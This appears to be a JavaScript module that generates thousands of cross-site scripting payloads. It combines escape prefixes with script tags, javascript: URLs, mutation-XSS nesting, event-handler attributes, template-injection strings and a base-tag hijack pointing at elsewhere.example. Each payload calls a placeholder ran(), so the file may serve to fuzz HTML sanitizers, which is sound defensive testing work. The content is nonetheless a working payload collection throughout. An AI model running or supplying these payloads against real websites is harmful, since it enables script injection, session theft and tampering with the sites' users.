// Lines that would run something where a page took them for markup, made here by the thousand: each way out of the place
// where a text may stand, before each element that can do harm, with each way in which it could begin.
const OUT = ['', '">', "'>", '-->', ']]>', '</script>', '</style>', '</title>', '</textarea></noscript>', '</svg></math>', '"', "' ", '\u00a0', '`'];

const BY_ITSELF = [
  '<script>ran()</script>',
  '<ScRiPt/x>ran()</ScRiPt>',
  '<script src="data:text/javascript,ran()"></script>',
  '<svg><script>ran()</script></svg>',
  '<svg><script href="data:text/javascript,ran()"/></svg>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<template><script>ran()</script></template><img src=x onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<form id=f><button form=f formaction="javascript:ran()">x</button></form>',
  '<a href="javascript:ran()">x</a>',
  '<a href="java&#9;script:ran()">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<base href="//elsewhere.example/">',
  '<link rel="stylesheet" href="data:text/css,*{background:url(//elsewhere.example)}">',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '<![CDATA[<script>ran()</script>]]>',
  '<?xml-stylesheet href="javascript:ran()"?>',
];

const ELEMENTS = [
  ['img', 'src=x'],
  ['image', 'src=x'],
  ['svg', ''],
  ['svg><animate', 'attributeName=x dur=1s'],
  ['svg><set', 'attributeName=x'],
  ['body', ''],
  ['input', 'autofocus'],
  ['select', 'autofocus'],
  ['textarea', 'autofocus'],
  ['button', 'autofocus'],
  ['a', 'href=# autofocus'],
  ['div', 'tabindex=1 autofocus'],
  ['details', 'open'],
  ['video', 'src=x'],
  ['video><source', 'src=x'],
  ['audio', 'src=x'],
  ['iframe', 'src=about:blank'],
  ['object', 'data=x'],
  ['style', ''],
  ['link', 'rel=stylesheet href=x'],
  ['marquee', ''],
  ['dialog', 'open'],
  ['x-made-up', 'tabindex=1 autofocus style=animation:x'],
  ['math', 'href=javascript:ran()'],
];

const EVENTS =
  'onerror onload onfocus onfocusin onblur ontoggle onbegin onend onrepeat onanimationstart ontransitionend onpageshow onhashchange onresize onscroll onscrollend oncanplay onloadstart onstart onfinish onclick onpointerenter onmouseover onbeforetoggle onsecuritypolicyviolation'.split(
    ' ',
  );

// How the handler stands in the element.
const FORMS = [(element, more, event) => `<${element} ${more} ${event}=ran()>`, (element, more, event) => `<${element}/${more.replaceAll(' ', '/')}/${event}="ran()"//`];

export function payloads() {
  const alone = OUT.flatMap((out) => BY_ITSELF.map((line) => out + line));
  const handled = OUT.slice(0, 9).flatMap((out) => ELEMENTS.flatMap(([element, more]) => EVENTS.flatMap((event) => FORMS.map((form) => out + form(element, more, event)))));
  // Every handler as a browser meets it that stands within quotation marks already.
  const within = ['"', "'", '` '].flatMap((mark) => EVENTS.map((event) => `x${mark} ${event}=${mark}ran()${mark} autofocus tabindex=1 x=${mark}`));
  return [...alone, ...handled, ...within];
}
